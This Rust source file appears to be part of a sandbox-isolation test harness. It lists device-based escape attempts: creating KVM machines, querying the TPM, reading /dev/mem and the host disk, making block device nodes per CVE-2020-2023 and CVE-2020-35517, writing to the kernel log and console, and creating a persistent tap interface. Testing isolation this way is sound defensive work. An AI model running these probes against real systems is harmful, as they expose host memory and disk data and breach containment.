//! Devices.

use super::{Attack, Attempt, Class, Effect, attack};
use crate::call::{Result, open, put};
use crate::{call, path};
use std::ffi::CStr;

const D: Class = Class::Devices;

/// Where ext4 has the identity of its file system.
const IDENTITY: i64 = 1024 + 0x68;

pub(super) const LIST: &[Attack] = &[
    attack(
        "kvm_opened",
        D,
        Effect::Power,
        "open /dev/kvm again and make a virtual machine",
        |it| {
            let _ = it;
            const KVM_CREATE_VM: i32 = 0xae01;
            let kvm = open(c"/dev/kvm", libc::O_RDWR)?;
            call!(SYS_ioctl, kvm, KVM_CREATE_VM, 0).map(drop)
        },
    ),
    attack("tpm_used", D, Effect::Observed, "give the host's TPM a command", |it| {
        let tpm =
            open(c"/dev/tpmrm0", libc::O_RDWR).or_else(|_| open(c"/dev/tpm0", libc::O_RDWR))?;
        // TPM2_GetRandom of eight bytes.
        let command = [0x80_u8, 0x01, 0, 0, 0, 12, 0, 0, 0x01, 0x7b, 0, 8];
        crate::call::write(tpm, &command)?;
        it.take(tpm)
    }),
    attack("memory_device_read", D, Effect::Observed, "read /dev/mem", |it| {
        let memory = open(c"/dev/mem", libc::O_RDONLY)?;
        it.take_at(memory, 64, 0xf0000)
    }),
    attack("disk_read", D, Effect::Disk, "read the host's disk", |it| {
        let disk = open(it.text("disk"), libc::O_RDONLY)?;
        it.take_at(disk, 16, IDENTITY)
    }),
    attack(
        "disk_made_and_read",
        D,
        Effect::Disk,
        "make a device node of the host's disk and read it (CVE-2020-2023 of Kata)",
        |it| node(it, "open"),
    ),
    attack(
        "disk_made_in_share_and_read",
        D,
        Effect::Disk,
        "the same in a share (CVE-2020-35517 of virtiofsd)",
        |it| node(it, "share"),
    )
    .only(super::Actor::Worker),
    attack(
        "log_written",
        D,
        Effect::Shows("kmsg", "hostile log_written"),
        "write to the kernel's log",
        |it| {
            let _ = it;
            put(c"/dev/kmsg", b"hostile log_written")
        },
    ),
    attack(
        "interface_made",
        D,
        Effect::Shows("/proc/net/dev", "hostile0"),
        "make a network interface with /dev/net/tun",
        tun,
    ),
    attack("terminal_written", D, Effect::Observed, "write to the host's console", |it| {
        let console = open(c"/dev/console", libc::O_WRONLY | libc::O_NOCTTY)?;
        crate::call::write(console, b"\n")?;
        it.prove(1);
        Ok(())
    }),
];

fn node(it: &mut Attempt<'_>, place: &str) -> Result {
    let node = path!("{}/{}", it.str(place), it.name);
    let number = it.number("disk_number");
    let _ = call!(SYS_unlinkat, libc::AT_FDCWD, &node, 0);
    call!(SYS_mknodat, libc::AT_FDCWD, &node, libc::S_IFBLK | 0o600, number)?;
    let disk = open(node.as_c_str(), libc::O_RDONLY)?;
    it.take_at(disk, 16, IDENTITY)
}

fn tun(_: &mut Attempt<'_>) -> Result {
    const TUNSETIFF: u32 = 0x4004_54ca;
    const TUNSETPERSIST: u32 = 0x4004_54cb;
    const IFF_TAP_NO_PI: u16 = 0x1002;
    let name: &CStr = c"hostile0";
    let tun = open(c"/dev/net/tun", libc::O_RDWR)?;
    let mut request = [0_u8; 40];
    request[..name.count_bytes()].copy_from_slice(name.to_bytes());
    request[16..18].copy_from_slice(&IFF_TAP_NO_PI.to_ne_bytes());
    call!(SYS_ioctl, tun, TUNSETIFF, &request[..])?;
    call!(SYS_ioctl, tun, TUNSETPERSIST, 1).map(drop)
}
